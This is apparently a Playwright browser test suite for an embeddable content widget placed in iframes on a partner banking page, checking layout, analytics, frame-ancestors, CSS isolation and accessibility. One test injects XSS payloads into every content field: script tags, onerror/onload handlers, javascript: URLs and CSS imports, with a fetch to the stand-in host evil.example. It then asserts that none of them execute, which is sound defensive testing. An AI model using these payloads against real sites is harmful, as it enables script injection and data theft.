import { createServer } from 'node:http';
import type { BrowserContextOptions, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { read } from '../support/architecture/sources.ts';
import { listen } from '../support/http/loopback.ts';
import { type Embedding, embedding, pageFor } from '../support/service/channels.ts';
import { service, type TestService } from '../support/service/service.ts';
import { axeFindings } from './axe.ts';
import { browserTest, newContext } from './browser.ts';

let api: TestService;
let partner: Awaited<ReturnType<typeof listen>>;
let origin: string;
/** The response of the partner's site to every request. */
let site = '';

beforeAll(async () => {
  api = await service();
  partner = await listen(createServer((_, answer) => answer.setHeader('content-type', 'text/html').end(site)));
  origin = partner.endpoint;
});
afterAll(async () => {
  partner.stop();
});

/** As the documentation advises. */
const [sandbox = ''] = read('docs/journeys.md').match(/sandbox="[^"]+"/)!;
const pageAround = (url: string, attributes: string) => `<!doctype html><html lang="en"><title>Online banking</title>
  <style>p { color: rgb(0, 0, 255) }</style><h1>Online banking</h1><p id="around">Your accounts</p>
  <iframe title="For you" src="${url}" ${attributes}></iframe>`;

type Seen = { outside: string[]; dialogs: string[]; complaints: string[] };
type Opened = { page: Page; frame: Frame; seen: Seen };

/** A page of a partner's site that embeds the URL. */
async function embed(url: string, attributes: string, options: BrowserContextOptions = {}): Promise<Opened> {
  const context = await newContext({ viewport: { width: 800, height: 600 }, ...options });
  const page = await context.newPage();
  const seen: Seen = { outside: [], dialogs: [], complaints: [] };
  await context.route('**', (route) => {
    const to = route.request().url();
    if ([api.baseUrl, origin, 'data:'].some((known) => to.startsWith(known))) return route.continue();
    seen.outside.push(to);
    return route.abort();
  });
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  page.on('console', (message) => {
    if (message.type() === 'error' && !message.text().includes('favicon')) seen.complaints.push(message.text());
  });
  page.on('pageerror', (error) => seen.complaints.push(error.message));
  site = pageAround(url, attributes);
  await page.goto(origin);
  return { page, frame: page.frames()[1]!, seen };
}

const sizeOf = (frame: Frame, selector: string) =>
  frame.locator(selector).evaluate((element: { getBoundingClientRect(): { width: number; height: number } }) => {
    const { width, height } = element.getBoundingClientRect();
    return { width, height };
  });
const styleOf = (place: Pick<Frame, 'evaluate'>, selector: string, name: string) =>
  place.evaluate(`getComputedStyle(document.querySelector('${selector}')).getPropertyValue('${name}')`);

const block = (type: string, data: object) => ({ type, data });
const texts = (count: number) => Array.from({ length: count }, (_, at) => block('text', { body: `Line ${at}` }));
const wild = `nav, .bar, .box, main, :root ~ *, html + * { display: none !important } p { position: fixed; inset: 0;
  color: rgb(255, 0, 0); z-index: 9999 } :root { width: 3000px }`;
const pagesOf = (channel: string) => [
  pageFor(channel, 'confirm', {
    navigation_title: 'Agree',
    container: {
      content_blocks: [
        block('text', { heading: 'Terms', body: 'Dear {{name_first}}' }),
        block('agreement', {
          agreementText: 'I agree to all of it',
          signatureBoxText: 'Your full name',
          acceptedConfirmationText: 'Thank you for agreeing.',
        }),
      ],
    },
  }),
  pageFor(channel, 'view', {
    navigation_title: 'Look',
    container: { content_blocks: [...texts(40), block('button', { text: 'Go', url: '{{journey_url}}' })] },
  }),
  pageFor(channel, null, { navigation_title: 'Wild', container: { content_blocks: texts(3), css: wild } }),
];
const channel = {
  show_navigation: true,
  properties: { width: '420px', height: '260px' },
  theme_styles: { palette: { primary: '#7a1f5c', surface: '#fff4e0' }, typography: {}, overrides: {}, custom: {} },
};
const bank = (own: object = {}) => embedding(api, pagesOf, { ...channel, frame_ancestors: [origin], ...own });
const pagesDone = (of: Embedding, person: Parameters<Embedding['analytics']>[0]) => async () => {
  const { pages_viewed, pages_completed } = await of.analytics(person);
  const titles = (ids: string[]) => ids.map((id) => of.pages.find((page) => page.id === id)!.navigation_title);
  return { viewed: titles(pages_viewed), completed: titles(pages_completed) };
};

describe('a page of another origin', () => {
  browserTest('embeds the content at its size and with its styles; what is done in it is recorded', async () => {
    const own = await bank();
    const jana = await own.person({ name_first: 'Jana' });
    const done = pagesDone(own, jana);
    const { page, frame, seen } = await embed(jana.url, `${sandbox} width="600" height="400"`);
    await frame.getByText('Dear Jana').waitFor();
    expect(await sizeOf(frame, '.box')).toEqual({ width: 420, height: 260 });
    expect(await styleOf(frame, '.box', 'background-color')).toBe('rgb(255, 244, 224)');
    expect(await styleOf(frame, '.button', 'background-color')).toBe('rgb(122, 31, 92)');
    await expect.poll(done).toEqual({ viewed: ['Agree'], completed: [] });

    await frame.getByLabel('Your full name').fill('Jana Novotna');
    await frame.getByRole('button', { name: 'I agree' }).click();
    await frame.getByText('Thank you for agreeing.').waitFor();
    await expect.poll(done).toEqual({ viewed: ['Agree'], completed: ['Agree'] });

    await frame.getByRole('link', { name: 'Look' }).click();
    await frame.getByText('Line 0').waitFor();
    await expect.poll(done).toEqual({ viewed: ['Agree', 'Look'], completed: ['Agree', 'Look'] });
    expect(await sizeOf(frame, '.box')).toEqual({ width: 420, height: 260 });
    expect(page.url()).toBe(`${origin}/`);

    const popup = page.context().waitForEvent('page');
    await frame.getByRole('link', { name: 'See all steps' }).click();
    expect((await popup).url()).toBe(jana.journeyUrl);
    expect(await (await popup).evaluate('window.opener')).toBeNull();
    expect(seen).toEqual({ outside: [], dialogs: [], complaints: [] });
    expect(await page.context().cookies()).toEqual([]);
  });

  browserTest('without scripts: seen by an image, confirmed by a form that leads back into the frame', async () => {
    const own = await bank();
    const jana = await own.person();
    const { page, frame } = await embed(jana.url, 'width="600" height="400"', { javaScriptEnabled: false });
    await frame.getByLabel('Your full name').fill('Jana Novotna');
    await frame.getByRole('button', { name: 'I agree' }).click();
    await frame.getByText('Thank you for agreeing.').waitFor();
    await expect.poll(pagesDone(own, jana)).toEqual({ viewed: ['Agree'], completed: ['Agree'] });
    expect([page.url(), frame.url()]).toEqual([`${origin}/`, jana.url]);
  });

  browserTest('in a sandbox without an origin: nothing is recorded, for every site could send that', async () => {
    const own = await bank();
    const jana = await own.person();
    const { frame } = await embed(jana.url, 'sandbox="allow-scripts allow-forms" width="600" height="400"');
    await frame.getByLabel('Your full name').fill('Jana Novotna');
    await frame.getByRole('button', { name: 'I agree' }).click();
    await frame.getByText('This could not be sent.').waitFor();
    expect(await frame.getByLabel('Your full name').inputValue()).toBe('Jana Novotna');
    expect(await pagesDone(own, jana)()).toEqual({ viewed: [], completed: [] });
  });

  browserTest('has the content counted as seen once it comes into view, not before', async () => {
    const own = await bank();
    const jana = await own.person();
    const below = 'width="420" height="260" style="display: block; margin-top: 2000px"';
    const { page, frame } = await embed(jana.url, below);
    await frame.getByText('Terms').waitFor();
    await page.waitForTimeout(300);
    expect(await pagesDone(own, jana)()).toEqual({ viewed: [], completed: [] });
    await page.locator('iframe').scrollIntoViewIfNeeded();
    await expect.poll(pagesDone(own, jana)).toEqual({ viewed: ['Agree'], completed: [] });
  });

  // A quarter of such content is more than the screen shows, so a quarter of the screen is enough.
  browserTest.each([
    ['five screens', 600, { width: 800, height: 600 }, 5],
    ['ten screens', 600, { width: 800, height: 600 }, 10],
    ['eight screens of a phone', 300, { width: 320, height: 568 }, 8],
    ['six screens of a phone held sideways', 600, { width: 640, height: 360 }, 6],
  ])('has content of %s counted as seen once it comes into view, not before', async (_, width, screen, screens) => {
    const tall = { navigation_title: 'Tall', container: { content_blocks: texts(400) } };
    const pages = (id: string) => [pageFor(id, 'view', tall)];
    const own = await embedding(api, pages, { frame_ancestors: [origin], properties: {} });
    const jana = await own.person();
    const height = screens * screen.height;
    const below = `width="${width}" height="${height}" style="display: block; margin-top: 2000px"`;
    const { page, frame } = await embed(jana.url, below, { viewport: screen, screen });
    await frame.getByText('Line 0').waitFor();
    await page.waitForTimeout(300);
    expect(await pagesDone(own, jana)()).toEqual({ viewed: [], completed: [] });
    // Without scripts, an image reports the view whatever the height.
    const reported = page.waitForRequest((request) => request.method() === 'POST');
    await page.evaluate(`scrollTo(0, ${2000 + height / 2})`);
    expect((await reported).postDataJSON()).toMatchObject({ type: 'page_viewed' });
    await expect.poll(async () => (await pagesDone(own, jana)()).viewed).toEqual(['Tall']);
  });

  browserTest.each([
    ['narrower', 280, 400, { width: 280, height: 260 }],
    ['lower', 600, 120, { width: 420, height: 120 }],
  ])('whose frame is %s than the channel gets content that fits and scrolls inside', async (_, width, height, fits) => {
    const { frame } = await embed((await (await bank()).person()).url, `width="${width}" height="${height}"`);
    await frame.getByRole('link', { name: 'Look' }).click();
    await frame.getByText('Line 0').waitFor();
    expect(await sizeOf(frame, '.box')).toEqual(fits);
    const extent = await frame.evaluate(
      '[document.documentElement.scrollWidth, document.documentElement.scrollHeight]',
    );
    expect(extent).toEqual([width, height]);
    // The content renews itself once it is seen.
    const go = frame.getByRole('link', { name: 'Go' });
    await expect
      .poll(() =>
        go.scrollIntoViewIfNeeded().then(
          () => true,
          () => false,
        ),
      )
      .toBe(true);
    expect(await frame.getByRole('link', { name: 'See all steps' }).isVisible()).toBe(true);
  });

  browserTest('that the channel does not name is refused by the browser', async () => {
    const own = await bank({ frame_ancestors: ['https://online.bank.example'] });
    const { frame, seen } = await embed((await own.person()).url, 'width="600" height="400"');
    await expect.poll(async () => seen.complaints.join()).toMatch(/frame-ancestors https:\/\/online\.bank\.example/);
    expect(await frame.locator('.box').count()).toBe(0);
  });
});

describe('content of a campaign', () => {
  browserTest('has CSS that reaches neither the navigation of the frame nor the page around it', async () => {
    const { page, frame } = await embed((await (await bank()).person()).url, 'width="600" height="400"');
    await frame.getByRole('link', { name: 'Wild' }).click();
    await frame.getByText('Line 0').waitFor();
    expect(await styleOf(frame, '#campaign p', 'color')).toBe('rgb(255, 0, 0)');
    expect(await sizeOf(frame, '.box')).toEqual({ width: 420, height: 260 });
    expect(await styleOf(page, '#around', 'color')).toBe('rgb(0, 0, 255)');
    await frame.getByRole('link', { name: 'Agree' }).click();
    await frame.getByText('Terms').waitFor();
  });

  browserTest('and fields of a contact run nothing and load nothing, whatever they hold', async () => {
    const script = 'alert(1);fetch("https://evil.example/?x")';
    const attack = [
      `<script>${script}</script>`,
      `"><img src=x onerror='${script}'>`,
      `</style><script>${script}</script>`,
      `</title></noscript><svg onload='${script}'>`,
      `javascript:${script}`,
    ].join(' ');
    const css = `${attack} * { background: url(https://evil.example/c) } @import "https://evil.example/i.css";`;
    const data = { heading: attack, body: `${attack} {{name_first}} {{meta_public.a}}`, text: attack, name: attack };
    const addresses = { url: `javascript:${script}`, src: attack, documentLinkUrl: `javascript:${script}` };
    const blocks = ['heading', 'text', 'card', 'image', 'button', 'document_link', 'agreement', 'confirm', attack].map(
      (type) => ({
        type,
        css,
        styles: { color: attack, [attack]: { color: attack } },
        data: { ...data, ...addresses },
      }),
    );
    const content = { content_blocks: blocks, css, styles: { [attack]: { color: 'red' }, background: attack } };
    const theme = { palette: { primary: attack }, typography: { body: attack }, custom: { a: attack } };
    const own = await embedding(
      api,
      (id) => [
        pageFor(id, 'confirm', { navigation_title: attack, completion_message: attack, container: content }),
        pageFor(id, 'confirm', { content_name: attack, variables: { [attack]: attack }, container: content }),
      ],
      {
        name: attack,
        show_navigation: true,
        properties: { width: attack, height: attack },
        theme_styles: { ...theme, overrides: { [attack]: { color: attack }, palette: { text: attack } } },
        default_content: { content_blocks: blocks, css },
      },
    );
    const { url } = await own.person({ name_first: attack, meta_public: { a: attack } });
    for (const address of [url, (await own.search('nobody')).url]) {
      const { page, frame, seen } = await embed(address, 'width="600" height="400"');
      await page.waitForLoadState('networkidle');
      expect(await frame.locator('.box').isVisible()).toBe(true);
      expect(await frame.locator('iframe, svg, [onerror], [onload], script:not(body > script)').count()).toBe(0);
      expect(seen).toEqual({ outside: [], dialogs: [], complaints: [] });
    }
  });
});

describe('the content is for everybody', () => {
  browserTest(
    'axe finds nothing in content, the default content, the quiet box and where there is nothing',
    async () => {
      const blocks = [
        block('text', { heading: 'Hello', body: 'Everybody' }),
        block('button', { text: 'Go', url: 'tel:1' }),
      ];
      const [own, plain] = [await bank({ default_content: { content_blocks: blocks } }), await bank()];
      const { url } = await own.person();
      const addresses = [url, (await own.search('nobody')).url, (await plain.search('nobody')).url, `${url}x`];
      const found: string[] = [];
      for (const address of addresses) {
        const { frame } = await embed(address, 'width="420" height="260"');
        await frame.waitForLoadState();
        found.push(...(await axeFindings(frame)));
      }
      expect(found).toEqual([]);
    },
  );
});
